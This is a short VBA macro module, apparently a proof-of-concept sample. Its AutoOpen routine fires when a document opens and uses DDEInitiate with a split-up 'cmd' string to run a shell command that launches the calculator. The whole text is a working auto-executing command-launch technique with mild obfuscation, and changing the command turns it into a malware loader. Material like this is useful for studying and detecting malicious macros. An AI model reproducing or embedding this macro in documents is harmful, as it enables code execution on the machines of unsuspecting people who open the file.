Attribute VB_Name = "Module1"
Sub AutoOpen()
  c = Application.DDEInitiate("c" & "md", "/c calc")
End Sub
